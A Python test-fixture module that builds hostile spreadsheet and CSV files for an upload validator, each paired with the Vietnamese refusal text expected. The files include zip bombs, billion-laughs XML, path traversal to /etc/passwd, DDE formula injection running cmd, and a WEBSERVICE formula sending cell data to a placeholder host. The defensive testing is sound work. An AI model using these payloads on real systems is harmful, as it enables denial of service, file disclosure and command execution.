# ruff: noqa: E501  one file a line reads best
"""Files made to hurt, or no lists at all, each with the words its refusal must hold."""

import io
import struct
import zipfile
from collections.abc import Callable
from typing import NamedTuple

from tests.factories.spreadsheets import ods, xls, xlsx

CELLS = [["Họ và tên", "Ngày sinh"], ["Lưu Gia Hân", "05/06/2022"]]
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'


class Hostile(NamedTuple):
    """What the file is called, how it is made, what the refusal says."""

    name: str
    make: Callable[[], bytes]
    says: str


def _with(part: str, content: str | bytes, **more: object) -> bytes:
    made: dict[str, str | bytes] = dict(xlsx.parts({"A": xlsx.sheet(CELLS)}))
    made[part] = content
    return xlsx.package(made, **more)  # type: ignore[arg-type]


def _replaced(part: str, old: str, new: str) -> bytes:
    made: dict[str, str | bytes] = dict(xlsx.parts({"A": xlsx.sheet(CELLS)}, strings=xlsx.shared("<t>x</t>"), styles=xlsx.styles("0")))
    text = made[part]
    assert isinstance(text, str)
    assert old in text, part
    made[part] = text.replace(old, new, 1)
    return xlsx.package(made)


def _zip(**files: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "."), content)
    return buffer.getvalue()


def _bomb(megabytes: int) -> bytes:
    row = '<row><c s="000"><v>1</v></c></row>'
    return _with(
        "xl/worksheets/sheet1.xml", xlsx.sheet([]).replace("<sheetData>", "<sheetData>" + row * (megabytes * 1024 * 1024 // len(row)))
    )


def _lying_bomb() -> bytes:
    content = bytearray(_bomb(60))
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = 0
        while (at := content.find(signature, at)) >= 0:
            if struct.unpack_from("<I", content, at + offset)[0] > 1 << 20:
                struct.pack_into("<I", content, at + offset, 900_000)
            at += 4
    return bytes(content)


def _twice() -> bytes:
    buffer = io.BytesIO(xlsx.workbook(CELLS))
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("XL/Workbook.xml", "<other/>")
    return buffer.getvalue()


def _many_members() -> bytes:
    return xlsx.package({**xlsx.parts({"A": xlsx.sheet(CELLS)}), **{f"xl/media/{n}": "" for n in range(5_000)}})


def _locked_member() -> bytes:
    content = bytearray(xlsx.workbook(CELLS))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = 0
        while (at := content.find(signature, at)) >= 0:
            content[at + offset] |= 1
            at += 4
    return bytes(content)


def _sheets(count: int) -> bytes:
    return xlsx.package(dict(xlsx.parts({f"Trang {n}": xlsx.sheet(CELLS) for n in range(count)})))


def _one_cell(address: str, row: int) -> bytes:
    return _with(
        "xl/worksheets/sheet1.xml",
        xlsx.sheet(CELLS).replace("</sheetData>", f'<row r="{row}"><c r="{address}"><v>1</v></c></row></sheetData>'),
    )


def _rows(first: str, second: str, *, plain: bool = True, cells: str = '<c r="A{0}"><v>1</v></c>') -> bytes:
    """Two more rows as they write their numbers; not `plain`: in a form that only the parser reads."""
    rows = "".join(f"<row{f' r="{number}"' if number else ''}>{cells.format(number)}</row>" for number in (first, second))
    return _with("xl/worksheets/sheet1.xml", xlsx.sheet(CELLS).replace("</sheetData>", f"{'' if plain else '<!-- -->'}{rows}</sheetData>"))


def _formula(written: str, *, plain: bool = True) -> bytes:
    return _rows("3", "4", cells=f'<c r="A{{0}}"><f>{written}</f><v>1</v></c>', plain=plain)


def _repeated(rows: int = 1, columns: int = 1) -> bytes:
    cell = f'<table:table-cell office:value-type="string" table:number-columns-repeated="{columns}"><text:p>x</text:p></table:table-cell>'
    row = f'<table:table-row table:number-rows-repeated="{rows}">{cell}</table:table-row>'
    return ods.package(ods.content(f'<table:table table:name="A">{row}</table:table>'))


def _deep() -> bytes:
    return _with("xl/worksheets/sheet1.xml", xlsx.sheet(CELLS).replace("<sheetData>", "<a>" * 100_000 + "</a>" * 99_999 + "<sheetData>"))


def _looped_chain() -> bytes:
    content = bytearray(xls.workbook([xls.Page("A", CELLS)]))
    table = 512 * (1 + struct.unpack_from("<I", content, 76)[0])
    struct.pack_into("<I", content, table, 0)  # the first sector follows itself
    directory = 512 * (1 + struct.unpack_from("<I", content, 48)[0])
    struct.pack_into("<I", content, directory + 128 + 120, 0x7FFFFFFF)
    return bytes(content)


FILES = (
    Hostile("bom.xlsx", lambda: _bomb(64), "nở ra quá lớn"),
    Hostile("bom-512.xlsx", lambda: _bomb(512), "nở ra quá lớn"),
    Hostile("bom-khai-gian.xlsx", _lying_bomb, "hỏng"),
    Hostile("bom-chuoi.xlsx", lambda: _with("xl/sharedStrings.xml", xlsx.shared("<t>" + "a" * 50_000_000 + "</t>")), "nở ra quá lớn"),
    Hostile("bom-ngoai-le.xlsx", lambda: _with("docProps/core.xml", b" " * 100_000_000), "nở ra quá lớn"),
    Hostile("bom.ods", lambda: ods.package(ods.content("<table:table/>" + " " * 60_000_000)), "nở ra quá lớn"),
    Hostile("long-nhau.xlsx", lambda: _with("xl/embeddings/a.bin", xlsx.workbook(CELLS)), "tệp nén nằm bên trong"),
    Hostile("long-rar.xlsx", lambda: _with("xl/media/a.png", b"Rar!\x1a\x07\x01" + bytes(99)), "tệp nén nằm bên trong"),
    Hostile("nen.zip", lambda: _zip(danh_sach__xlsx=xlsx.workbook(CELLS)), "Giải nén rồi gửi từng tệp"),
    Hostile("nen-khac.xlsx", lambda: _zip(a__txt=b"a"), "không có bảng tính"),
    Hostile("nhieu-tep.xlsx", _many_members, "quá nhiều tệp con"),
    Hostile("tron-ra.xlsx", lambda: _with("../../etc/passwd", b"x"), "trỏ ra ngoài"),
    Hostile("tron-ra-2.xlsx", lambda: _with("/etc/passwd", b"x"), "trỏ ra ngoài"),
    Hostile("tron-ra-3.xlsx", lambda: _with("..\\..\\autorun.inf", b"x"), "trỏ ra ngoài"),
    Hostile("o-dia.xlsx", lambda: _with("C:/windows/a.dll", b"x"), "trỏ ra ngoài"),
    Hostile("lien-ket.xlsx", lambda: _with("xl/sharedStrings.xml", "/etc/passwd", links=["xl/sharedStrings.xml"]), "liên kết thay vì dữ liệu"),
    Hostile("trung-ten.xlsx", _twice, "trùng tên"),
    Hostile("mat-khau-zip.xlsx", _locked_member, "có đặt mật khẩu"),
    Hostile("mat-khau.xlsx", lambda: xls.compound({"EncryptionInfo": b"x", "EncryptedPackage": bytes(9000)}), "có đặt mật khẩu"),
    Hostile("mat-khau.xls", lambda: xls.workbook([xls.Page("A", CELLS)], extra=xls.record(0x2F, bytes(54))), "có đặt mật khẩu"),
    Hostile(
        "mat-khau.ods",
        lambda: ods.package(ods.content(""), manifest="<m:manifest xmlns:m='m'><m:encryption-data/></m:manifest>"),
        "có đặt mật khẩu",
    ),
    Hostile("cut.xlsx", lambda: xlsx.workbook(CELLS)[:-300], "hỏng"),
    Hostile("cut-giua.xlsx", lambda: _replaced("xl/worksheets/sheet1.xml", "</row>", ""), "hỏng"),
    Hostile("cut.xls", lambda: xls.workbook([xls.Page("A", CELLS)])[:3000], "hỏng"),
    Hostile("rong.xlsx", lambda: xlsx.package({}), "tệp nén rỗng"),
    Hostile("trang.xlsx", lambda: b"   \n", "không có gì bên trong"),
    Hostile("anh.xlsx", lambda: b"\x89PNG\r\n\x1a\n" + bytes(200), "dạng ảnh"),
    Hostile("giay.xls", lambda: b"%PDF-1.7\n" + bytes(200), "dạng PDF"),
    Hostile("chay.xlsx", lambda: b"MZ" + bytes(200), "chương trình"),
    Hostile("trang-web.xls", lambda: "<html><body><table><tr><td>Họ và tên</td></tr></table></body></html>".encode(), "trang web (HTML)"),
    Hostile(
        "xml-2003.xls",
        lambda: b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"></Workbook>',
        "kiểu XML cũ",
    ),
    Hostile("van-ban.xlsx", lambda: xlsx.package({"word/document.xml": "<x/>"}), "dạng Word"),
    Hostile("cuoi.xlsx", lambda: _with("xl/sharedStrings.xml", LAUGHS + "<sst>&c;</sst>"), "khai báo lạ"),
    Hostile("cuoi-rels.xlsx", lambda: _with("_rels/.rels", LAUGHS + "<Relationships>&c;</Relationships>"), "khai báo lạ"),
    Hostile("cuoi-so.xlsx", lambda: _replaced("xl/workbook.xml", "<workbook", LAUGHS + "<workbook"), "khai báo lạ"),
    Hostile("cuoi-16.xlsx", lambda: _with("xl/sharedStrings.xml", (LAUGHS + "<sst>&c;</sst>").encode("utf-16")), "khai báo lạ"),
    Hostile(
        "cuoi-xa.xlsx",
        lambda: _with("xl/worksheets/sheet1.xml", "<!--" + "x" * 5_000 + "-->" + LAUGHS + "<worksheet>&c;</worksheet>"),
        "khai báo lạ",
    ),
    Hostile("cuoi.ods", lambda: ods.package(LAUGHS + "<x>&c;</x>"), "khai báo lạ"),
    Hostile("ngoai.xlsx", lambda: _with("xl/externalLinks/externalLink1.xml", "<externalLink/>"), "lấy dữ liệu từ tệp khác"),
    Hostile(
        "ngoai-2.xlsx",
        lambda: _replaced("xl/_rels/workbook.xml.rels", 'Target="sharedStrings.xml"', 'Target="file:///etc/passwd" TargetMode="External"'),
        "lấy dữ liệu từ tệp khác",
    ),
    Hostile(
        "ngoai.xls",
        lambda: xls.workbook([xls.Page("A", CELLS)], extra=xls.record(0x1AE, struct.pack("<HH", 1, 12) + b"\1\0http://x/a")),
        "lấy dữ liệu từ tệp khác",
    ),
    Hostile("goc-xa.xlsx", lambda: _one_cell("XFD1048576", 1_048_576), "XFD1048576"),
    Hostile("cot-ngoai.xlsx", lambda: _one_cell("XFE3", 3), "quá xa so với một danh sách"),
    Hostile("dong-ngoai.xlsx", lambda: _one_cell("A1048577", 1_048_577), "vượt giới hạn của Excel"),
    Hostile("hai-dong.xlsx", lambda: _rows("3", "3"), "ghi hai lần dòng 3"),
    Hostile("hai-dong-la.xlsx", lambda: _rows("3", "3", plain=False), "ghi hai lần dòng 3"),
    Hostile("hai-dong-dau.xlsx", lambda: _rows("3", "1"), "ghi hai lần dòng 1"),
    Hostile("dong-khong-so.xlsx", lambda: _rows("", "3"), "ghi hai lần dòng 3"),
    Hostile("hai-dong.xls", lambda: xls.workbook([xls.Page("A", CELLS, extra=xls.record(0x27E, struct.pack("<HHHi", 0, 0, 0, 6)))]), "ghi hai lần dòng 1"),
    Hostile("dong-am.xlsx", lambda: _rows("-1", "4"), "hỏng"),
    Hostile("dong-la.xlsx", lambda: _rows("9223372036854775808", "4"), "hỏng"),
    Hostile("hai-o.xlsx", lambda: _rows("3", "4", cells='<c r="B{0}"><v>1</v></c><c r="B{0}"><v>2</v></c>'), "hai nội dung cho một ô B3"),
    Hostile("hai-o-la.xlsx", lambda: _rows("3", "4", cells='<c r="B{0}"><v>1</v></c><c r="B{0}"><v>2</v></c>', plain=False), "hai nội dung cho một ô B3"),
    Hostile("dde.xlsx", lambda: _formula("cmd|'/C calc'!A0"), "gọi chương trình hoặc trang web khác"),
    Hostile("dde-la.xlsx", lambda: _formula("cmd|&apos;/C calc&apos;!A0", plain=False), "gọi chương trình hoặc trang web khác"),
    Hostile("mang.xlsx", lambda: _formula('1+_xlfn.WEBSERVICE("http://x/"&amp;A1)'), "gọi chương trình hoặc trang web khác"),
    Hostile("dde.ods", lambda: ods.package(ods.content('<table:table table:name="A"><table:table-row><table:table-cell office:value-type="string" table:formula="of:=DDE(&quot;a&quot;;&quot;b&quot;;&quot;c&quot;)"><text:p>x</text:p></table:table-cell></table:table-row></table:table>')), "gọi chương trình hoặc trang web khác"),
    Hostile("chu-cat.csv", lambda: "Họ và tên,Ngày sinh\nLưu Gia Hân,05/06/2022\nLưu Gia Đ".encode()[:-1], "bị cắt ngang"),
    Hostile("chu-cat-16.csv", lambda: "\ufeffHọ và tên\tNgày sinh\nLưu Gia Hân\t05/06/2022\n".encode("utf-16-le") + b"L", "bị cắt ngang"),
    Hostile("lap-tre.ods", lambda: _repeated(rows=1_048_572, columns=5), "thêm 1048571 lần"),
    Hostile("16384-cot.xlsx", lambda: xlsx.workbook([["x"] * 16_384]), "quá xa so với một danh sách"),
    Hostile("o-dai.xlsx", lambda: xlsx.workbook([["a" * 40_000]]), "quá dài"),
    Hostile("nhieu-trang.xlsx", lambda: _sheets(201), "quá nhiều cho một danh sách"),
    Hostile("nhieu-kieu.xlsx", lambda: _replaced("xl/styles.xml", '<xf numFmtId="164"/>', '<xf numFmtId="164"/>' * 70_000), "quá nhiều kiểu định dạng"),
    Hostile("sau.xlsx", _deep, "hỏng"),
    Hostile("chi-so-sai.xlsx", lambda: _one_cell('A9" t="s', 9), "hỏng"),
    Hostile("nhi-phan.xlsb", lambda: xlsx.package({"_rels/.rels": xlsx.relations(("officeDocument", "xl/workbook.bin")), "xl/workbook.bin": b"x"}), ".xlsb"),
    Hostile("macro.xls", lambda: xls.compound({"_VBA_PROJECT": bytes(5000)}), "không có bảng tính bên trong"),
    Hostile("xich.xls", _looped_chain, "hỏng"),
    Hostile("xa.xls", lambda: xls.workbook([xls.Page("A", CELLS, extra=xls.record(0x27E, struct.pack("<HHHi", 60_000, 65_535, 0, 6)))]), "quá xa"),
    Hostile("chuoi-thieu.xls", lambda: xls.workbook([xls.Page("A", CELLS, extra=xls.record(0xFD, struct.pack("<HHHI", 5, 0, 0, 9)))]), "hỏng"),
    Hostile("rat-cu.xls", lambda: b"\x09\x00\x04\x00\x02\x00\x10\x00" + bytes(600), "trước năm 1995"),
    Hostile("lap-dong.ods", lambda: _repeated(rows=1_000_000_000), "quá xa so với một danh sách"),
    Hostile("lap-cot.ods", lambda: _repeated(columns=1_000_000_000), "quá xa so với một danh sách"),
    Hostile("lap-ca-hai.ods", lambda: _repeated(rows=1_000_000, columns=500), "nở ra quá lớn"),
    Hostile("khac.ods", lambda: ods.package(ods.content(""), mime="application/vnd.oasis.opendocument.text"), "OpenDocument khác"),
    Hostile("nul.csv", lambda: b"Ho va ten,Ngay sinh\nA\0B,1\n", "ký tự rỗng ở dòng 2"),
    Hostile("mot-dong.csv", lambda: b"a" * 20_000_000, "dài hơn một triệu chữ"),
    Hostile("trieu-cot.csv", lambda: b"a," * 3_000_000, "dài hơn một triệu chữ"),
    Hostile("nghin-cot.csv", lambda: b"a," * 3_000 + b"\n", "quá xa so với một danh sách"),
    Hostile("o-dai.csv", lambda: b"x,y\n" + b"a" * 40_000 + b",b\n", "quá dài"),
    Hostile("trieu-dong.csv", lambda: b"a,b\n" * 5_000_000, "quá xa so với một danh sách"),
    Hostile("ngoac-mo.csv", lambda: b'"' + b"a,b\n" * 5_000_000, "quá xa so với một danh sách"),
    Hostile("rac.csv", lambda: bytes(range(1, 32)) * 40, "không phải bảng tính"),
    Hostile("json.csv", lambda: b'{"ho_ten": "A"}', "dạng JSON"),
)  # fmt: skip
